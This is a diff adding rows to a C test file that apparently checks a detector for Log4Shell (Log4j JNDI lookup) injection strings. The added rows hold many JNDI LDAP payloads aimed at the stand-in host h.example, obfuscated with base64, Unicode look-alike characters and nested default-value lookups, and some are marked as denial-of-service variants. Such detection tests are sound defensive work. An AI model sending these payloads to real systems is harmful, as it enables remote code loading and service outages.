@@ -104,6 +104,11 @@ static void only_some_releases(void **state)
         /* java: throws where it is known, event:Message too */
         ROW("${java:nosuch}${jndi:ldap://h.example/a}", "exploit", .fires = FIRES("2.0-beta9-2.0.2")),
         ROW("${jndi:ldap://h.example/a}${java:nosuch}", "exploit", .fires = FIRES_ALL, .indicators = H),
+        /* the message in a context value is another text, so that nothing refers to itself */
+        ROW("${event:Message}${jndi:ldap://h.example/a}", "exploit", .traits = "dos", .indicators = H,
+            .fires = "2.0-beta9-2.13.1 message; 2.0-beta9-2.13.1 single; 2.0-beta9-2.14.1 context +layout"),
+        ROW("${event:Message}${jndi:ldap://h.example/a}", "exploit", .traits = "dos", .indicators = H, .only = "2.14.1",
+            .fires = "2.13.2-2.14.1 context +layout", .normal = "${jndi:ldap://h.example/a}", .calls = 1),
         ROW("${jndi:ldap://h.example/a}${a:-${a}}", "exploit", .traits = "dos", .fires = FIRES_ALL),
         /* the allow-list of 2.15.0 and the escape that this release does not see */
         ROW("$${jndi:ldap://127.0.0.1/a}", "exploit", .fires = "2.15.0 message +lookups"),
@@ -217,6 +222,14 @@ static void dead_tries(void **state)
         ROW("${${base64:am5kaTpsZGFwOi8vaC5leGFtcGxlL2E=}}", "attempt"),
         ROW("${${lower:jnd}${lower:\xc4\xb0}:ldap://h.example/a}", "attempt"), /* fires under a Turkish locale alone */
         ROW("${jnd\xc4\xb1:ldap://h.example/a}", "attempt"),
+        ROW("${${base64:am5kaQ==}:ldap://h.example/a}", "attempt"),
+        ROW("${${base64:ag}${base64:bg}${base64:ZA}i:ldap://h.example/a}", "attempt"),
+        ROW("${+jndi:ldap://h.example/a}", "attempt"),
+        ROW("${jndi+:ldap://h.example/a}", "attempt"),
+        ROW("${\xef\xbd\x8andi:ldap://h.example/a}", "attempt"), /* the full-width j */
+        ROW("${${lower:\xef\xbc\xaa\xef\xbc\xae\xef\xbc\xa4\xef\xbc\xa9}:ldap://h.example/a}", "attempt"),
+        ROW("${${::-j}${${::-n}${${::-d}${${::-i}:${::-l}${${::-d}${${::-a}${${::-p}://h.example/a}", "attempt"),
+        ROW("${a ${b ${c:-${d", "none"),
         ROW("${jnd\xc4\xb0:ldap://h.example/a}", "attempt"),
         ROW("${jnd${lower:\xc4\xb1}:ldap://h.example/a}", "attempt"),
         ROW("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h.example/a", "attempt"),
